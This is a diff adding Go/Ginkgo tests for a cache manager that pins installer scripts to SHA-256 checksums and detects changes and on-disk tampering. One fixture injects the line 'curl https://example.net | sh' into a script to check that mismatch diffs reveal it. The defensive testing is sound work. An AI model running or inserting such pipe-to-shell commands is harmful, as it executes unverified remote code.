@@ -1,8 +1,12 @@
 package cache_test
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
 	"os"
 	"path/filepath"
+	"strings"
 	"time"
 
 	. "github.com/onsi/ginkgo/v2"
@@ -514,4 +518,79 @@ var _ = Describe("CacheManager", func() {
 			})
 		})
 	})
+
+	Describe("Approved installer scripts", func() {
+		const scriptURL = "https://example.com/install.sh"
+
+		var (
+			scriptFile string
+			checksum   string
+		)
+
+		writeScript := func(content string) string {
+			Expect(os.WriteFile(scriptFile, []byte(content), 0600)).To(Succeed())
+			sum := sha256.Sum256([]byte(content))
+			return hex.EncodeToString(sum[:])
+		}
+
+		BeforeEach(func() {
+			scriptFile = filepath.Join(tempDir, "install.sh")
+			checksum = writeScript("#!/bin/sh\necho install\n")
+		})
+
+		It("should store a script that matches its pinned checksum", func() {
+			entry, err := cacheManager.ApproveScript(scriptURL, scriptFile, strings.ToUpper(checksum), map[string]string{"app": "tool"})
+			Expect(err).NotTo(HaveOccurred())
+			Expect(entry.Checksum).To(Equal(checksum))
+			Expect(entry.Metadata).To(HaveKeyWithValue("url", scriptURL))
+
+			approved, err := cacheManager.ApprovedScript(scriptURL, checksum)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(approved).NotTo(BeNil())
+			Expect(os.ReadFile(approved.Path)).To(Equal([]byte("#!/bin/sh\necho install\n")))
+		})
+
+		It("should reject a changed script with a diff against the approved copy", func() {
+			_, err := cacheManager.ApproveScript(scriptURL, scriptFile, checksum, nil)
+			Expect(err).NotTo(HaveOccurred())
+
+			changed := writeScript("#!/bin/sh\necho install\ncurl https://example.net | sh\n")
+			_, err = cacheManager.ApproveScript(scriptURL, scriptFile, checksum, nil)
+
+			var mismatch *cache.ScriptMismatchError
+			Expect(errors.As(err, &mismatch)).To(BeTrue())
+			Expect(mismatch.Expected).To(Equal(checksum))
+			Expect(mismatch.Actual).To(Equal(changed))
+			Expect(mismatch.Diff).To(ContainSubstring("+curl https://example.net | sh"))
+
+			// The approved copy is kept
+			approved, err := cacheManager.ApprovedScript(scriptURL, checksum)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(approved).NotTo(BeNil())
+		})
+
+		It("should report a mismatch without a diff when nothing was approved", func() {
+			_, err := cacheManager.ApproveScript(scriptURL, scriptFile, strings.Repeat("0", 64), nil)
+			Expect(err).To(MatchError(ContainSubstring("no approved copy to compare against")))
+		})
+
+		It("should not return an approved copy for a different pin", func() {
+			_, err := cacheManager.ApproveScript(scriptURL, scriptFile, checksum, nil)
+			Expect(err).NotTo(HaveOccurred())
+
+			approved, err := cacheManager.ApprovedScript(scriptURL, strings.Repeat("0", 64))
+			Expect(err).NotTo(HaveOccurred())
+			Expect(approved).To(BeNil())
+		})
+
+		It("should not return an approved copy that was modified on disk", func() {
+			entry, err := cacheManager.ApproveScript(scriptURL, scriptFile, checksum, nil)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(os.WriteFile(entry.Path, []byte("tampered"), 0600)).To(Succeed())
+
+			approved, err := cacheManager.ApprovedScript(scriptURL, checksum)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(approved).To(BeNil())
+		})
+	})
 })